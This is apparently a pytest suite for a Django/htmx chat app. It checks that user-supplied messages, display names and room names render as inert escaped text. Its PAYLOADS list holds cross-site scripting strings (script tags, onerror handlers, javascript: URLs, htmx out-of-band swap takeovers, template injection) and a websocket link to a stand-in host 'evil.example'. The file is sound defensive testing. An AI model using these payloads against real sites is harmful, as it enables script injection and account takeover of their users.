"""User text is always inert: message text, display names and room names, in pages, live
fragments and the lobby, for every kind of payload we could think of."""

from __future__ import annotations

import json
import re

import pytest
from django.test import Client
from django.utils.html import escape

from rooms import writes
from rooms.forms import RoomForm
from rooms.identity import Author
from tests.test_consumers import create_room, join, open_socket

PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<div hx-get="/admin/" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<div id="messages" hx-swap-oob="innerHTML">taken over</div>',
    '<div id="chat-error" hx-swap-oob="true" data-error="none">fake error</div>',
    '<input id="cursor" name="cursor" value="0" hx-swap-oob="true">',
    '<form ws-send hx-trigger="load every 1s"><input name="message" value="again"></form>',
    '<div hx-ext="ws" ws-connect="wss://evil.example/ws">x</div>',
    '<a href="javascript:window.__pwned=1">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "{{ request.session }}{% debug %}{# x #}",
    '"><script>window.__pwned=1</script>',
    "'-alert(1)-'",
    "＜script＞window.__pwned=1＜/script＞",
    "&lt;script&gt;already escaped&lt;/script&gt;",
    "messages",
    "chat-error",
]
NAME_PAYLOADS = [p for p in PAYLOADS if RoomForm({"name": p}).is_valid()]


def assert_inert(html: str, payload: str) -> None:
    if any(ch in payload for ch in "<>\"'&"):
        assert payload not in html, payload
        assert escape(payload) in html, payload


def single_ids(html: str) -> None:
    for element_id in ("messages", "chat-error", "cursor", "composer", "composer-text", "resume", "chat"):
        assert len(re.findall(rf'\bid="{element_id}"', html)) == 1, element_id


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_message_text_and_author_names_are_escaped_in_the_page(payload):
    room = writes.get_or_create_room("r")[0]
    writes.post_message(room.pk, Author(key="g-x", name=payload[:32]), payload)
    html = Client().get(room.get_absolute_url()).content.decode()
    assert_inert(html, payload)
    single_ids(html)
    history = Client().get(f"{room.get_absolute_url()}messages/?before=99", headers={"HX-Request": "true"})
    assert_inert(history.content.decode(), payload)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", NAME_PAYLOADS)
def test_room_names_are_escaped_in_the_lobby_and_the_room(payload):
    room = writes.get_or_create_room(payload)[0]
    for url in ("/", room.get_absolute_url()):
        html = Client().get(url).content.decode()
        assert_inert(html, payload)
    assert "<" not in room.slug and '"' not in room.slug
    single_ids(Client().get(room.get_absolute_url()).content.decode())


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_live_fragments_carry_payloads_as_text(browser_headers, settings):
    settings.ROOMS_RATE_BURST = settings.ROOMS_FLOOD_BURST = 0
    room = await create_room("r")
    watcher, _ = await join(room, browser_headers())
    sender, _ = await join(room, browser_headers())
    lobby = await open_socket("/ws/lobby/", browser_headers())
    await lobby.receive_from(timeout=5)
    for payload in PAYLOADS:
        await sender.send_to(json.dumps({"message": payload}))
        await sender.receive_from(timeout=5)
        await sender.receive_from(timeout=5)
        live = await watcher.receive_from(timeout=5)
        assert_inert(live, payload)
        top_level = re.findall(r"^<(\w+)[^>]*hx-swap-oob", live, flags=re.M)
        assert top_level == ["div", "input"]  # only our own out-of-band wrappers
        assert_inert(await lobby.receive_from(timeout=5), room.name)
    for communicator in (watcher, sender, lobby):
        await communicator.disconnect()


@pytest.mark.django_db
def test_a_guest_display_name_payload_is_escaped_in_the_header_and_in_messages():
    client = Client()
    client.get("/")
    payload = '"><img src=x onerror=1>'
    assert client.post("/me/name/", {"display_name": payload}).status_code == 302
    room = writes.get_or_create_room("r")[0]
    client.post(f"{room.get_absolute_url()}messages/", {"message": "hi"})
    html = client.get(room.get_absolute_url()).content.decode()
    assert_inert(html, payload)
